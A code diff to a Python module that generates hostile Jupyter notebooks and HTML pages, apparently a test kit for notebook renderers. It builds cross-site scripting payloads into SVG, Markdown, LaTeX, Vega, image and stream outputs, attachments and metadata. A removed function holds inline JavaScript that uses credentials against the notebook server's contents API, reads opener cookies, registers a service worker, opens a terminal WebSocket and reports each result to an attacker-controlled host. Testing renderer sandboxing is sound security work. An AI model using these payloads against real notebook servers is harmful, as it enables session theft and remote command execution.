@@ -2,6 +2,7 @@
 
 import base64
 import json
+import pathlib
 import urllib.parse
 
 
@@ -49,12 +50,14 @@ def handlers(name, evil):
 def svg(name, evil):
     """A picture with scripts."""
     run = script(name, evil)
-    inner = f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="{run}"/></body></foreignObject>'
-    return f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{run}"><script>{run}</script>{inner}</svg>'
+    page = f'<body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="{run}"/></body>'
+    inner = f"<script>{run}</script><foreignObject>{page}</foreignObject>"
+    return f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{run}">{inner}</svg>'
 
 
 def outputs(evil):
     """Outputs by the name of the attack."""
+
     def data(bundle):
         return {"output_type": "display_data", "data": bundle, "metadata": {"isolated": False, "trusted": True}}
 
@@ -62,55 +65,101 @@ def outputs(evil):
         return handlers(name, evil)
 
     widget = {"model_id": html("widget"), "version_major": 2, "version_minor": 0}
-    vega = {"$schema": "https://vega.github.io/schema/vega/v5.json", "width": 9, "height": 9, "marks": [
-        {"type": "text", "encode": {"enter": {"href": {"value": f"javascript:{script('vega', evil)}"}, "text": {"value": "link"}}}}]}
-    error = {"output_type": "error", "ename": html("ename"), "evalue": html("evalue"),
-             "traceback": [html("traceback"), "\x1b[31m" + html("traceback-ansi") + "\x1b[0m"]}
+    vega = {
+        "$schema": "https://vega.github.io/schema/vega/v5.json",
+        "width": 9,
+        "height": 9,
+        "marks": [
+            {
+                "type": "text",
+                "encode": {
+                    "enter": {"href": {"value": f"javascript:{script('vega', evil)}"}, "text": {"value": "link"}}
+                },
+            }
+        ],
+    }
+    error = {
+        "output_type": "error",
+        "ename": html("ename"),
+        "evalue": html("evalue"),
+        "traceback": [html("traceback"), "\x1b[31m" + html("traceback-ansi") + "\x1b[0m"],
+    }
     return {
         "html": data({"text/html": html("html")}),
         "svg": data({"image/svg+xml": svg("svg", evil)}),
-        "markdown": data({"text/markdown": html("markdown-output") + f"\n[link](javascript:{script('markdown-link', evil)})"}),
+        "markdown": data(
+            {"text/markdown": html("markdown-output") + f"\n[link](javascript:{script('markdown-link', evil)})"}
+        ),
         "javascript": data({"application/javascript": script("javascript", evil)}),
         "text/javascript": data({"text/javascript": script("text-javascript", evil)}),
-        "latex": data({"text/latex": r"$\href{javascript:%s}{link}$ $\style{background:url(%sstyle?latex)}{x}$"
-                                     % (script("latex", evil).replace("{", r"\{").replace("}", r"\}"), evil)}),
+        "latex": data(
+            {
+                "text/latex": r"$\href{javascript:%s}{link}$ $\style{background:url(%sstyle?latex)}{x}$"
+                % (script("latex", evil).replace("{", r"\{").replace("}", r"\}"), evil)
+            }
+        ),
         "json": data({"application/json": {html("json-key"): html("json")}}),
         "png": data({"image/png": 'x" onerror="' + script("png", evil)}),
         "unknown": data({"text/x-unknown": html("unknown"), "text/plain": html("plain")}),
         "widget": data({"application/vnd.jupyter.widget-view+json": widget}),
         "vega": data({"application/vnd.vega.v5+json": vega}),
-        "geojson": data({"application/geo+json": {"type": "Feature", "properties": {"name": html("geojson")}, "geometry": None}}),
-        "stream": {"output_type": "stream", "name": "stderr",
-                   "text": html("stream") + f"\njavascript:{script('autolink', evil)} \x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07"},
+        "geojson": data(
+            {"application/geo+json": {"type": "Feature", "properties": {"name": html("geojson")}, "geometry": None}}
+        ),
+        "stream": {
+            "output_type": "stream",
+            "name": "stderr",
+            "text": html("stream")
+            + f"\njavascript:{script('autolink', evil)} \x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07",
+        },
         "error": error,
     }
 
 
 def notebook(evil):
     """The notebook: an attack in each output, in Markdown, in attachments, in metadata and in a form."""
+
     def html(name):
         return handlers(name, evil)
 
     cells = [
-        {"cell_type": "code", "id": f"c{at}", "execution_count": 1, "source": name, "outputs": [output],
-         "metadata": {"name": html("cell-name"), "tags": [html("tag")], "trusted": True}}
+        {
+            "cell_type": "code",
+            "id": f"c{at}",
+            "execution_count": 1,
+            "source": name,
+            "outputs": [output],
+            "metadata": {"name": html("cell-name"), "tags": [html("tag")], "trusted": True},
+        }
         for at, (name, output) in enumerate(outputs(evil).items())
     ]
     attachment = base64.b64encode(svg("attachment", evil).encode()).decode()
     cells += [
-        {"cell_type": "markdown", "id": "m1", "metadata": {"trusted": True},
-         "source": html("markdown") + f"\n\n# {html('heading')}\n\n![x](attachment:a.svg) "
-                                      f"[link](javascript:{script('markdown-cell-link', evil)}) ![pixel]({evil}pixel)",
-         "attachments": {"a.svg": {"image/svg+xml": attachment}}},
-        {"cell_type": "code", "id": "f1", "execution_count": None, "outputs": [], "metadata": {},
-         "source": f"x = 1  #@param [{json.dumps(html('form').replace(chr(10), ' '))}]\n"
-                   f"#@markdown {html('form-text').replace(chr(10), ' ')}"},
+        {
+            "cell_type": "markdown",
+            "id": "m1",
+            "metadata": {"trusted": True},
+            "source": html("markdown") + f"\n\n# {html('heading')}\n\n![x](attachment:a.svg) "
+            f"[link](javascript:{script('markdown-cell-link', evil)}) ![pixel]({evil}pixel)",
+            "attachments": {"a.svg": {"image/svg+xml": attachment}},
+        },
+        {
+            "cell_type": "code",
+            "id": "f1",
+            "execution_count": None,
+            "outputs": [],
+            "metadata": {},
+            "source": f"x = 1  #@param [{json.dumps(html('form').replace(chr(10), ' '))}]\n"
+            f"#@markdown {html('form-text').replace(chr(10), ' ')}",
+        },
         {"cell_type": "raw", "id": "r1", "metadata": {"format": "text/html"}, "source": html("raw")},
     ]
     metadata = {
         "kernelspec": {"name": "python3", "display_name": html("kernel-name"), "language": html("language")},
         "language_info": {"name": html("language-info"), "codemirror_mode": html("mode"), "file_extension": ".py"},
-        "title": html("title"), "authors": [{"name": html("author")}], "accelerator": html("accelerator"),
+        "title": html("title"),
+        "authors": [{"name": html("author")}],
+        "accelerator": html("accelerator"),
         "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": {"model_module": evil, "state": {}}}}},
     }
     return {"cells": cells, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}
@@ -119,22 +168,21 @@ def notebook(evil):
 def exported(evil):
     """A notebook of those outputs that exports show as HTML."""
     chosen = ("html", "svg", "markdown", "javascript")
-    cells = [{"cell_type": "code", "id": name, "execution_count": 1, "metadata": {}, "source": "", "outputs": [output]}
-             for name, output in outputs(evil).items() if name in chosen]
+    cells = [
+        {"cell_type": "code", "id": name, "execution_count": 1, "metadata": {}, "source": "", "outputs": [output]}
+        for name, output in outputs(evil).items()
+        if name in chosen
+    ]
     return {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
 
 
 def page(name, evil, server):
-    """A page of the drive that tries what its origin may do: cookies, the interface, WebSockets, its opener."""
-    return f"""<!doctype html><meta charset=utf-8><script>{script(name, evil)};
-const say = (what, result) => fetch('{evil}did?' + new URLSearchParams({{name: '{name}', what, result}}), {{mode: 'no-cors'}});
-fetch('{server}api/contents', {{credentials: 'include'}}).then((a) => say('reads the interface', a.status), () => say('reads the interface', 'refused'));
-fetch('{server}api/contents/{name}.made', {{method: 'PUT', credentials: 'include', body: '{{"type":"directory"}}'}}).catch(() => 0);
-fetch('{server}api/contents', {{method: 'POST', mode: 'no-cors', credentials: 'include', body: '{{"type":"directory"}}'}}).catch(() => 0);
-try {{ say('reads its opener', opener.document.cookie) }} catch (e) {{ say('reads its opener', 'refused') }}
-try {{ parent.document.title = 'pwned' ; say('writes its parent', parent === self ? 'refused' : 'done') }} catch (e) {{ say('writes its parent', 'refused') }}
-try {{ navigator.serviceWorker.register('{server}files/worker.js').then(() => say('service worker', 'done'), () => say('service worker', 'refused')) }}
-catch (e) {{ say('service worker', 'refused') }}
-const socket = new WebSocket('{server.replace("http", "ws", 1)}terminals/websocket/1');
-socket.onopen = () => say('opens a terminal', 'done'); socket.onerror = () => say('opens a terminal', 'refused');
-</script>{handlers(name, evil)}"""
+    """A page of the drive that tries what its origin may do."""
+    own = module("hostile_own.js", NAME=name, EVIL=evil, LAB=server)
+    return f"<!doctype html><meta charset=utf-8><script>{script(name, evil)};\n{own}</script>{handlers(name, evil)}"
+
+
+def module(file, **constants):
+    """A script of this folder with its constants."""
+    text = pathlib.Path(__file__).with_name(file).read_text()
+    return "".join(f"const {name} = {json.dumps(value)};\n" for name, value in constants.items()) + text
